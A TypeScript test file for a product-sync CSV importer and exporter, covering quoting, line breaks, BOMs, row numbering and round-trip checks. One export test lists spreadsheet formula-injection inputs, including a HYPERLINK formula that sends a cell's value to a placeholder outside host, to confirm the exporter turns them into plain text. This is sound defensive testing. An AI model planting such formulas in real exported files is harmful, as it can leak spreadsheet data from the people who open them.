import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readProducts } from '../../../src/sync';
import { csvLine, csvRecords, parseCsv } from '../../../src/sync/file/csv';

describe('CSV import', () => {
  it('takes the separator the header uses, drops a BOM, and unquotes separators, quotes and line breaks', () => {
    const text = '\uFEFFsku;name;note\nA-1;"Kubek; duży";"powiedział ""tak"""\nA-2;"dwie\nlinie";zwykły, z przecinkiem\n';
    expect(parseCsv(text)).toEqual({
      rows: [
        { line: 1, cells: ['sku', 'name', 'note'] },
        { line: 2, cells: ['A-1', 'Kubek; duży', 'powiedział "tak"'] },
        { line: 3, cells: ['A-2', 'dwie\nlinie', 'zwykły, z przecinkiem'] },
      ],
      problems: [],
    });
  });

  it.each([
    ['LF', '\n'],
    ['CRLF', '\r\n'],
    ['CR', '\r'],
  ])('numbers rows by the line they start on, past blank rows and quoted line breaks (%s)', (_name, eol) => {
    const text = ['a,b', '', '"one', 'two', 'three",x', ' , ', 'last,row'].join(eol) + eol;
    const { rows } = parseCsv(text);
    expect(rows.map((r) => r.line)).toEqual([1, 3, 7]);
    expect(rows[1]!.cells).toEqual(['one\ntwo\nthree', 'x']);
  });

  it('keeps short rows, and a quote inside an unquoted cell as text', () => {
    expect(csvRecords('sku,name,weight_grams\nA-1,Mug\nA-2,6" plate,200\n').records).toEqual([
      { line: 2, record: { sku: 'A-1', name: 'Mug', weight_grams: '' } },
      { line: 3, record: { sku: 'A-2', name: '6" plate', weight_grams: '200' } },
    ]);
  });

  it('reports a quote that is never closed by the line it opens on, and keeps the rows before it', () => {
    const text = 'sku,name\nA-1,Mug\n\nA-2,"Plate\nA-3,Bowl\n';
    const { records, problems } = csvRecords(text);
    expect(records.map((r) => r.record.sku)).toEqual(['A-1']);
    expect(problems).toEqual([{ line: 4, message: expect.stringMatching(/^this row cannot be read as CSV: Quote Not Closed/) }]);
    expect(readProducts(text, 'csv').errors).toEqual([{ line: 4, message: expect.stringMatching(/cannot be read as CSV/) }]);
  });
});

describe('CSV export', () => {
  it('quotes only what needs it (semicolons too, for spreadsheets that split on them) and writes booleans as words', () => {
    expect(csvLine(['F-1', 'a,b', 'say "hi"', 'two\nlines', 'x;y', false, true, 3, null])).toBe('F-1,"a,b","say ""hi""","two\nlines","x;y",false,true,3,\n');
  });

  it('makes text that a spreadsheet would run as a formula plain text, and leaves numbers alone', () => {
    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"Open")', '+48 600', '-2+3', '@SUM(A1)', '\t=1'];
    const line = csvLine([...hostile, -12.5, 'ok = fine']);
    expect(csvLine(['\r=1'])).toBe(`"'\r=1"\n`);
    const [row] = parseCsv(`${'h,'.repeat(6)}h\n${line}`).rows.slice(1);
    expect(row!.cells).toEqual([...hostile.map((text) => `'${text}`), '-12.5', 'ok = fine']);
  });

  it('writes lines the importer reads back cell for cell', () => {
    const cell = fc.string({ unit: fc.constantFrom('a', 'ż', ' ', ',', ';', '"', '\n', '1') });
    fc.assert(
      fc.property(fc.array(cell, { minLength: 2, maxLength: 5 }), (cells) => {
        fc.pre(cells.some((c) => c.trim() !== ''));
        const { rows, problems } = parseCsv(`h1,h2\n${csvLine(cells)}`);
        return problems.length === 0 && rows.length === 2 && JSON.stringify(rows[1]!.cells) === JSON.stringify(cells);
      }),
    );
  });
});
